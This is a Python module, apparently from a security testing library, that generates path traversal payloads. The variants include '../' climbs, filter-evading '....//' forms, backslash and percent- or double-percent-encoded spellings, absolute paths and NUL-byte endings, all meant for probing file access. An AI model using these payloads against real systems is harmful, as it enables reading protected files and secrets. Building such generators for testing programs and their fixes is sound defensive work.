"""Path traversal: ways up, down and around × spelling of dots and slashes."""

from __future__ import annotations

import random

from pydantic import validate_call

from unseen.security.attacks.grammar import BadAttackError, Idiom, Idioms, drawer, extras, forms
from unseen.security.attacks.spelling import percent, word


@validate_call
def idioms(
    *,
    target: str,
    up: int = 1,
    inside: str = "",
    absolute: str = "",
    sibling: str = "",
    decoded: bool = False,
    nul: str = "",
    prefix: str = "",
    suffix: str = "",
    extra: tuple[str, ...] = (),
) -> Idioms:
    r"""Give the idioms of path traversal.

    Args:
        target: the file that must not be reached, from the folder that lies `up` levels above the base.
        up: levels from the base to that folder.
        inside: a folder that exists below the base.
        absolute: the absolute path of the target; a mark such as `{TOP}` that the exploit replaces is fine.
        sibling: a file in a folder beside the base whose name begins with the base's, as `site-old/key.txt`.
        decoded: also draw percent-encoded spellings, for programs (or fixes) that decode.
        nul: an allowed ending, put behind a NUL; not for C, whose strings end there.
        prefix: stands before every payload.
        suffix: stands behind every payload.
        extra: idioms of the item's own.

    Raises:
        BadAttackError: `up` is below 1.
    """
    if up < 1:
        raise BadAttackError("up must be at least 1")
    climb = "../" * up

    def around(make: Idiom) -> Idiom:
        return lambda rng: prefix + make(rng) + suffix

    found: dict[str, Idiom] = {
        "climb": forms(_same, climb + target),
        "current": lambda rng: _stepping(rng, up) + target,
        "slashes": lambda rng: "".join(".." + "/" * rng.randint(2, 4) for _ in range(up)) + target,
        # What a filter leaves that takes `../` out once.
        "dots": lambda rng: "".join(rng.choice(("....//", "..././")) for _ in range(up)) + target,
        "backslashes": forms(_same, climb.replace("/", "\\") + target, "..\\/" * up + target),
        "down_and_up": lambda rng: f"{word(rng)}/../{climb}{target}",
    }
    if inside:
        found["inside"] = lambda rng: f"{inside}/{rng.choice(('', './', '/'))}../{climb}{target}"
        found["inside_dots"] = lambda rng: f"{inside}/....//" + "....//" * up + target
    if sibling:
        found["sibling"] = forms(
            _same, f"../{sibling}", f"./../{sibling}", f"..//{sibling}", f".././{sibling}"
        )
    if absolute:
        found["absolute"] = forms(_same, absolute)
        found["absolute_spelled"] = lambda rng: rng.choice(("/", "//", "/./", "/../")) + absolute
    if decoded:
        found["percent"] = forms(
            _same,
            percent(climb) + target,
            climb.replace("/", "%2f") + target,
            climb.replace(".", "%2E") + target,
            climb.replace("../", ".%2e/") + target,
        )
        found["percent_twice"] = forms(_same, percent(climb).replace("%", "%25") + target)
    if nul:
        found["nul"] = forms(_same, f"{climb}{target}\0{nul}")
    return {name: around(make) for name, make in {**found, **extras(_same, extra)}.items()}


draw = drawer(idioms)


def _same(rng: random.Random, text: str) -> str:
    return text


def _stepping(rng: random.Random, up: int) -> str:
    """Go up with steps into the folder that one is in."""
    return "./" + "".join(rng.choice(("../", ".././", ".//../")) for _ in range(up))
